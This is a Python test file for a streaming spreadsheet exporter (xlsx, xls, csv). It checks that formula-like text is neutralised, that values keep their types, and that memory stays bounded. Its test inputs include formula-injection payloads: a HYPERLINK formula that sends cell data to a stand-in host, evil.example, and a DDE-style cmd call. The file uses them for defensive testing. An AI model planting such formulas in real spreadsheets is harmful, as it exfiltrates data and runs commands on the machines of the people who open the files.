"""The streaming writers: no text ever runs as a formula, numbers and dates keep their
types, and memory stays flat however many rows are written."""

import csv
import datetime
import io
import tempfile
import tracemalloc
from decimal import Decimal

import openpyxl
import pytest
import xlrd

from core.spreadsheets import writing
from core.spreadsheets.writing import ExportTooLarge, get_writer

# Every start a spreadsheet reads as a formula (README), as a clerk could have typed it.
FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+62 711 123456",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["Kode", "Judul", "Nilai (Rp)", "Tanggal Mulai", "Tahun", "Publik", "Kosong"]


def _rows():
    rows = [HEADER]
    for index, text in enumerate(FORMULA_LIKE, start=1):
        rows.append(
            [
                f"KS-2019-{index:04d}",
                text,
                Decimal("1500000.00"),
                datetime.date(2019, 10, 29),
                2019,
                True,
                None,
            ]
        )
    rows.append(["KS-2019-0099", "Kerja sama biasa", Decimal("1250.50"), None, 2020, False, ""])
    return rows


def _write(format_name, rows):
    stream = io.BytesIO()
    get_writer(format_name).write(iter(rows), stream)
    return stream.getvalue()


def test_xlsx_keeps_formula_like_text_as_quoted_text():
    sheet = openpyxl.load_workbook(io.BytesIO(_write("xlsx", _rows()))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; the text is otherwise intact.
    assert [cell.value for cell in titles[: len(FORMULA_LIKE)]] == [
        text.replace("\r", "\n") for text in FORMULA_LIKE
    ]
    assert all(cell.quotePrefix for cell in titles[: len(FORMULA_LIKE)])
    assert titles[-1].value == "Kerja sama biasa"
    assert not titles[-1].quotePrefix


def test_xlsx_keeps_numbers_and_dates_typed():
    sheet = openpyxl.load_workbook(io.BytesIO(_write("xlsx", _rows()))).active
    header, first, *_middle, last = list(sheet.iter_rows(values_only=False))

    assert [cell.value for cell in header] == HEADER
    assert first[2].data_type == "n" and first[2].value == 1500000
    assert first[2].number_format == "#,##0"
    assert last[2].value == pytest.approx(1250.5)
    assert last[2].number_format == "#,##0.00"
    assert first[3].is_date and first[3].value == datetime.datetime(2019, 10, 29)
    assert first[3].number_format == "dd/mm/yyyy"
    assert first[4].value == 2019 and first[4].data_type == "n"
    assert first[5].value is True
    assert first[6].value is None


def test_xlsx_has_a_frozen_bold_header_and_widths():
    workbook = openpyxl.load_workbook(io.BytesIO(_write("xlsx", _rows())))
    sheet = workbook.active

    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert 10 <= sheet.column_dimensions["B"].width <= 60
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["E"].width


def test_xlsx_refuses_no_control_characters():
    rows = [["Judul"], ["Laporan\x0bdari Word"]]
    sheet = openpyxl.load_workbook(io.BytesIO(_write("xlsx", rows))).active
    assert sheet["A2"].value == "Laporandari Word"


def test_csv_is_utf8_with_bom_and_marks_formula_like_text():
    extra = [["KS-2019-0100", "'s-Hertogenbosch", None, None, 1, 0, "é"]]
    content = _write("csv", _rows() + extra)

    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1 : len(FORMULA_LIKE) + 1]] == [
        "'" + text for text in FORMULA_LIKE
    ]
    assert rows[len(FORMULA_LIKE) + 1][1] == "Kerja sama biasa"
    assert rows[-1][1] == "'s-Hertogenbosch"
    assert rows[-1][-1] == "é"


def test_csv_writes_plain_numbers_iso_dates_and_empty_cells():
    rows = list(csv.reader(io.StringIO(_write("csv", _rows()).decode("utf-8-sig"))))
    first, last = rows[1], rows[-1]

    assert first[2:] == ["1500000", "2019-10-29", "2019", "TRUE", ""]
    assert last[2:] == ["1250.50", "", "2020", "FALSE", ""]


def test_xls_writes_text_dates_and_numbers():
    book = xlrd.open_workbook(file_contents=_write("xls", _rows()))
    sheet = book.sheet_by_index(0)

    assert sheet.row_values(0) == HEADER
    for row_index, text in enumerate(FORMULA_LIKE, start=1):
        assert sheet.cell(row_index, 1).ctype == xlrd.XL_CELL_TEXT
        assert sheet.cell(row_index, 1).value == text
    assert sheet.cell(1, 2).ctype == xlrd.XL_CELL_NUMBER
    assert sheet.cell(1, 2).value == 1500000
    assert sheet.cell(1, 3).ctype == xlrd.XL_CELL_DATE
    assert xlrd.xldate_as_datetime(sheet.cell(1, 3).value, book.datemode).date() == (
        datetime.date(2019, 10, 29)
    )


def test_xls_refuses_more_rows_than_the_format_holds(monkeypatch):
    monkeypatch.setattr(writing, "XLS_MAX_ROWS", 4)
    with pytest.raises(ExportTooLarge, match="xlsx"):
        _write("xls", _rows())


def test_unknown_format_is_refused_with_the_choices():
    with pytest.raises(ValueError, match="xlsx, xls, csv"):
        get_writer("ods")
    assert get_writer(" XLSX ").extension == "xlsx"


@pytest.mark.parametrize("format_name", ["xlsx", "csv"])
def test_memory_stays_flat_as_rows_grow(format_name):
    def rows(count):
        yield HEADER
        for index in range(count):
            yield [f"KS-{index}", "=1+1 " * 10, Decimal("1500000"), datetime.date(2019, 1, 1)]

    peaks = []
    for count in (300, 3000):
        with tempfile.TemporaryFile() as target:
            tracemalloc.start()
            get_writer(format_name).write(rows(count), target)
            peaks.append(tracemalloc.get_traced_memory()[1])
            tracemalloc.stop()
    small, large = peaks
    assert large < 2 * 1024 * 1024
    assert large < small * 1.5


def test_csv_marks_are_exactly_what_the_import_widget_removes():
    from core.spreadsheets.widgets import TextWidget

    # Texts as the register stores them (forms and imports trim leading spaces).
    texts = [*FORMULA_LIKE[:4], "'s-Hertogenbosch", "Kerja sama biasa"]
    content = _write("csv", [["Judul"], *[[text] for text in texts]])
    cells = [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]

    assert [TextWidget().clean(cell) for cell in cells] == texts
